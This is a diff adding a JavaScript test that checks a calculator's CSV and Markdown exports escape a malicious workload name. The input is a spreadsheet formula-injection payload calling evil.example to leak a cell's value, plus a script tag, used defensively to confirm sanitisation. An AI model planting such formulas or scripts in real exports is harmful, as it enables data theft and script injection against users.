@@ -168,3 +168,22 @@ test('a difference in the compare table reads as a percentage, or from twice the
   assert.equal(diffText(5, 0), '+∞ %');
   assert.equal(diffText(7, 7), '±0');
 });
+
+test('exports write a link\'s text as text: no spreadsheet formula in a CSV cell, no markup in the Markdown', async () => {
+  // an attacker's trial: an inline workload named =HYPERLINK(...) reached the CSV as a formula, <script> the Markdown as HTML
+  const { resultCsv, resultMarkdown } = await import('../../web/export.mjs');
+  const type = m.describeScenarioType('DataParallelAttackSurfaceScenario');
+  const inputs = { ...m.listPresets().find((p) => p.name === 'ReferenceJobAttackSurface').inputs,
+    workload: { name: '=HYPERLINK("https://evil.example/?"&A2,"click")<script>x</script>', parameters: '7e9 param' } };
+  const r = m.evaluate(type.name, inputs);
+  const csv = resultCsv(r, type, { dp_degree: '-3+1' });
+  // the name starts with an apostrophe (a spreadsheet shows it as text); quotes doubled as CSV has them
+  assert.match(csv, /\ninput,workload,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A2,""click""\)<script>x<\/script>",,/);
+  assert.match(csv, /\ninput,dp_degree,16,,'-3\+1,\n/);  // the text as typed, a formula too
+  assert.match(csv, /\nproperty,gradient_bytes,14000000000,byte,14 GB,/);  // 7e9 x 2 byte/param; numbers stay numbers
+  const md = resultMarkdown(r, type, prefs('auto'), null, {});
+  assert.ok(!md.includes('<script>'), md);
+  assert.match(md, /&lt;script&gt;x&lt;\/script&gt;/);
+  // an equation is a code span, which Markdown does not read as markup: written as it is
+  assert.match(md, /\| `gradient_bytes` \| 14 GB \| `P × gradient_bytes_per_param` \|/);
+});
